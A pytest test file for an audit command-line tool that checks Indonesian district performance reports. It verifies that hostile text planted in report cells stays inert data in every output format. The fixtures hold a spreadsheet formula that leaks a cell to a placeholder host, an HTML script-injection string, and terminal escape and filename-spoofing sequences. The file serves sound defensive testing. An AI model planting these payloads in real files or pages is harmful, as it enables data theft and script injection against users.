"""Text from a report is data in every output (issue 19, items 4-6): never a live formula in a
spreadsheet we write, never markup that breaks out of a Markdown, HTML or XML document,
never a control sequence a terminal or a CI log would obey, and never a crash of a writer.

One hostile cell set, planted where it reaches every output: the agency's name, the label
of a row with findings and a fix (`realisasi_kegiatan` 5.13), and a number cell (PARSE001
shows what was written); for `extract`, the same row's label in the document.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import EXAMPLE, ROOT
from openpyxl import load_workbook

from audit.cli import main

FORMULA = '=HYPERLINK("http://x/?leak="&B2,"Klik")'
MARKUP = "</table><img src=x onerror=alert(1)>"
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x0b\x08\u202etxt.exe"  # the last reorders what follows
HOSTILE = FORMULA + MARKUP + "|a\nb" + ESCAPES  # a cell: formula, markup, pipe, newline, terminal escapes
INLINE = FORMULA + MARKUP + ESCAPES  # the same in a document's table cell (a tab or newline would end it)
TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # not for a terminal
XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what XML 1.0 (HTML, JUnit, xlsx) cannot carry
LABEL = "Kegiatan 13 Koordinasi Upaya Penyelenggaraan Ketenteraman dan Ketertiban Umum"


def run(*args):
    return CliRunner().invoke(main, list(map(str, args)))


def plant(path: Path, pick, column: int, delimiter: str) -> None:
    """Put HOSTILE in one cell of a CSV table (the row `pick` chooses)."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    pick(rows)[column] = HOSTILE
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The example report with the hostile set in its agency, a fixed row's label and a number cell."""
    folder = tmp_path_factory.mktemp("hostile") / "rep"
    shutil.copytree(EXAMPLE, folder)
    # written with ';': the delimiter then comes from the header, as csv.Sniffer (used when a sample
    # holds ', ') misreads the doubled quotes of the formula
    plant(folder / "realisasi_kegiatan.csv", lambda rows: next(r for r in rows if r[3] == LABEL), 3, ";")
    plant(folder / "pegawai_gender.csv", lambda rows: rows[1], 5, ",")  # a number column: PARSE001
    meta = yaml.safe_load((folder / "report.yaml").read_text(encoding="utf-8"))
    meta["agency"] = "Kecamatan " + HOSTILE
    (folder / "report.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def document(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("doc") / "laporan.md"
    text = (ROOT / "examples" / "jatiroto-2023.md").read_text(encoding="utf-8")
    assert LABEL in text
    path.write_text(text.replace(LABEL, INLINE), encoding="utf-8")
    return path


def hashes(*roots: Path) -> dict[str, str]:
    import hashlib

    files = [p for root in roots for p in ([root] if root.is_file() else sorted(root.rglob("*"))) if p.is_file()]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


@pytest.fixture(autouse=True)
def inputs_unchanged(request):
    """Every command run on the hostile report or document leaves it byte for byte as it was."""
    roots = [request.getfixturevalue(name) for name in ("hostile", "document") if name in request.fixturenames]
    before = hashes(*roots)
    yield
    assert hashes(*roots) == before


def no_control(text: str, pattern: re.Pattern = TERMINAL) -> None:
    assert not pattern.search(text), repr(pattern.search(text).group())


def no_live_formula(xlsx: Path) -> list:
    """Every cell value of the workbook; asserts no sheet holds a formula and the XML parses."""
    with zipfile.ZipFile(xlsx) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    values = []
    for ws in load_workbook(xlsx).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                values.append(cell.value)
    return values


def no_formula_cells(rows) -> None:
    """No CSV cell a spreadsheet would run (a number, or a dash for nothing, may start with '-')."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.,%\s]*", cell), cell
            no_control(cell.replace("\n", ""), XML)


def markdown_is_closed(text: str) -> None:
    """No raw markup, no control characters, and every table row has as many cells as its header."""
    assert "<img" not in text and "</table>" not in text
    no_control(text)
    width = None
    for line in text.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        width = width or cells
        assert cells == width, line


def test_markdown_report_keeps_the_cell_inside_its_table(hostile, tmp_path):
    r = run("check", hostile, "-f", f"markdown:{tmp_path / 'r.md'}")
    assert r.exit_code == 1, r.output
    text = (tmp_path / "r.md").read_text(encoding="utf-8")
    markdown_is_closed(text)
    assert "=HYPERLINK(" in text  # shown, as text


@pytest.mark.parametrize("color", ["--no-color", "--color"])
def test_terminal_report_passes_no_control_sequence(hostile, tmp_path, color):
    r = run("check", hostile, color, "-f", "rich", "-f", f"rich:{tmp_path / 'r.txt'}")
    assert r.exit_code == 1
    for text in (r.stdout, (tmp_path / "r.txt").read_text(encoding="utf-8")):
        assert "=HYPERLINK(" in text  # the cell is shown
        assert "\x1b[2J" not in text and "\x1b]" not in text and "\x07" not in text and "\x9b" not in text
        if color == "--no-color":
            no_control(text)


def test_github_annotations_pass_no_control_sequence(hostile):
    r = run("check", hostile, "-f", "github")
    assert r.exit_code == 1
    no_control(r.stdout)
    assert all(line.startswith("::") for line in r.stdout.splitlines())  # nothing forged a line of its own


def test_html_junit_sarif_json_hold_the_cell_as_data(hostile, tmp_path):
    r = run("check", hostile, "-f", f"html:{tmp_path / 'r.html'}", "-f", f"junit:{tmp_path / 'r.xml'}",
            "-f", f"sarif:{tmp_path / 'r.sarif'}", "-f", f"json:{tmp_path / 'r.json'}")
    assert r.exit_code == 1, r.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<img" not in page and "&lt;img" in page
    no_control(page, XML)
    junit = (tmp_path / "r.xml").read_text(encoding="utf-8")
    no_control(junit, XML)
    assert "<img" not in junit and any("HYPERLINK" in (e.text or "") for e in ET.fromstring(junit).iter())
    for name in ("r.sarif", "r.json"):  # JSON escapes control characters; the text is kept as data
        assert FORMULA in (tmp_path / name).read_text(encoding="utf-8").replace('\\"', '"')
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["report"]["agency"].endswith(ESCAPES)


def test_findings_workbook_neutralises_and_does_not_crash(hostile, tmp_path):
    r = run("check", hostile, "-f", f"xlsx:{tmp_path / 'r.xlsx'}")
    assert r.exit_code == 1, r.output
    values = [v for v in no_live_formula(tmp_path / "r.xlsx") if isinstance(v, str)]
    assert any("HYPERLINK" in v for v in values)
    assert not any(v.startswith("=") for v in values)


def test_fix_listings_neutralise_the_cell(hostile, tmp_path):
    text = run("fix", hostile)
    assert text.exit_code == 0 and "HYPERLINK" in text.stdout
    no_control(text.stdout)
    for fmt in ("csv", "markdown", "xlsx"):
        out = tmp_path / f"fixes.{fmt}"
        r = run("fix", hostile, "--format", fmt, "-o", out)
        assert r.exit_code == 0, r.output
        if fmt == "csv":
            no_formula_cells(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
        elif fmt == "markdown":
            markdown_is_closed(out.read_text(encoding="utf-8"))
        else:
            assert any(isinstance(v, str) and "HYPERLINK" in v for v in no_live_formula(out))


def test_corrected_workbook_keeps_the_cell_as_text(hostile, tmp_path):
    r = run("fix", hostile, "--apply", "-o", tmp_path / "fixed.xlsx")
    assert r.exit_code == 0, r.output
    values = no_live_formula(tmp_path / "fixed.xlsx")
    assert HOSTILE.replace("\x0b", "").replace("\x08", "").replace("\x1b", "").replace("\x07", "") in values
    again = run("check", tmp_path / "fixed.xlsx", "-f", "json")  # read back: the label as it was written
    assert "HYPERLINK" in again.stdout and "INPUT005" not in again.stdout


def test_corrected_copy_of_a_workbook_keeps_text_cells_text(hostile, tmp_path):
    source = tmp_path / "laporan.xlsx"
    assert run("fix", hostile, "--apply", "-o", source).exit_code == 0  # a workbook holding the cell as text
    r = run("fix", source, "--apply", "-o", tmp_path / "fixed.xlsx")
    assert r.exit_code == 0, r.output
    assert any(isinstance(v, str) and v.startswith(FORMULA) for v in no_live_formula(tmp_path / "fixed.xlsx"))


def test_extracted_tables_and_log_hold_the_document_cell_as_data(document, tmp_path):
    book = run("extract", document, "-o", tmp_path / "t.xlsx")
    assert book.exit_code == 0, book.output
    no_control(book.stdout)
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in no_live_formula(tmp_path / "t.xlsx"))
    markdown_is_closed((tmp_path / "t.extraction-log.md").read_text(encoding="utf-8"))
    folder = run("extract", document, "-o", tmp_path / "t")
    assert folder.exit_code == 0, folder.output
    texts = [p.read_text(encoding="utf-8") for p in sorted((tmp_path / "t").glob("*.csv"))]
    assert any("HYPERLINK" in x for x in texts)
    for text in texts:
        no_formula_cells(csv.reader(io.StringIO(text)))


def test_one_line_error_passes_no_control_sequence(tmp_path):
    folder = tmp_path / "rep"
    shutil.copytree(EXAMPLE, folder)
    meta = yaml.safe_load((folder / "report.yaml").read_text(encoding="utf-8"))
    meta["year"] = HOSTILE
    (folder / "report.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")
    for lang in ("id", "en"):
        r = run("check", folder, "--lang", lang)
        assert r.exit_code == 2
        assert len(r.stderr.splitlines()) == 1 and "HYPERLINK" in r.stderr, r.stderr
        no_control(r.stderr.rstrip("\n"))


def test_batch_summaries_hold_the_cells_as_data(hostile, tmp_path):
    region = tmp_path / "kab"
    shutil.copytree(hostile, region / "a")
    shutil.copytree(EXAMPLE, region / "b")
    meta = yaml.safe_load((region / "b" / "report.yaml").read_text(encoding="utf-8"))
    meta["year"] = HOSTILE  # an input error whose line quotes the cell
    (region / "b" / "report.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    r = run("batch", region, "-j", "1", "--no-progress", "-f", "rich", "-f", f"markdown:{out}.md", "-f",
            f"csv:{out}.csv", "-f", f"xlsx:{out}.xlsx", "-f", f"junit:{out}.xml")
    assert r.exit_code == 1, r.output
    no_control(r.stdout)
    no_control(r.stderr)
    markdown_is_closed(Path(f"{out}.md").read_text(encoding="utf-8"))
    no_formula_cells(csv.reader(io.StringIO(Path(f"{out}.csv").read_text(encoding="utf-8"))))
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in no_live_formula(Path(f"{out}.xlsx")))
    no_control(Path(f"{out}.xml").read_text(encoding="utf-8"), XML)


def test_baseline_holds_the_cells_as_data(hostile, tmp_path):
    """The waivers file quotes the findings: read back, it is the same text, with no raw control character."""
    r = run("baseline", hostile, "-o", tmp_path / "b.yaml")
    assert r.exit_code == 0, r.output
    no_control(r.stdout)
    text = (tmp_path / "b.yaml").read_text(encoding="utf-8")
    no_control(text.replace("\n", ""), XML)  # YAML escapes them ("\e", "\x9B")
    said = [w["message"] for w in yaml.safe_load(text)["waivers"] if w["rule"] == "PARSE001"]
    assert any(HOSTILE in m for m in said), said  # read back: the cell exactly as written
    assert run("check", hostile, "--baseline", tmp_path / "b.yaml").exit_code == 0  # every finding waived


def test_ordinary_text_is_unchanged_by_neutralising():
    from audit.neutralise import markdown_text, spreadsheet_text, terminal_text

    for text in ("Kecamatan Jatiroto", "1.800.000", "-", "-5", "90,63%", "Capaian: 100% (tinggi)\tx"):
        assert spreadsheet_text(text) == text and terminal_text(text) == text
    assert markdown_text("Program A (2023)") == "Program A (2023)"


@pytest.fixture(scope="module")
def charted(tmp_path_factory) -> Path:
    """The example with the hostile set as a programme's name and an indicator's: labels of the pictures."""
    folder = tmp_path_factory.mktemp("charted") / "rep"
    shutil.copytree(EXAMPLE, folder)
    plant(folder / "realisasi_program.csv", lambda rows: rows[2], 2, ";")
    path = folder / "realisasi_indikator.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    first = rows[1][3]
    for row in rows[1:]:
        if row[3] == first:
            row[3] = HOSTILE
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return folder


def test_pictures_hold_the_labels_as_text(charted, tmp_path):
    r = run("check", charted, "-f", f"html:{tmp_path / 'r.html'}", "-f", f"xlsx:{tmp_path / 'r.xlsx'}")
    assert r.exit_code == 1, r.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    pictures = re.findall(r"<svg\b.*?</svg>", page, re.S)
    assert len(pictures) == 2
    for svg in pictures:
        no_control(svg, XML)
        root = ET.fromstring(svg)  # well-formed: the label closed no element and opened none
        assert not [el for el in root.iter() if el.tag.endswith(("img", "table", "script"))]
        assert any("HYPERLINK" in (el.text or "") for el in root.iter())
    assert "<img" not in page and "&lt;img" in page
    ws = load_workbook(tmp_path / "r.xlsx")["Grafik"]
    labels = [c.value for c in ws["A"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(labels) == 2 and not any(v.startswith("=") for v in labels)
    no_live_formula(tmp_path / "r.xlsx")
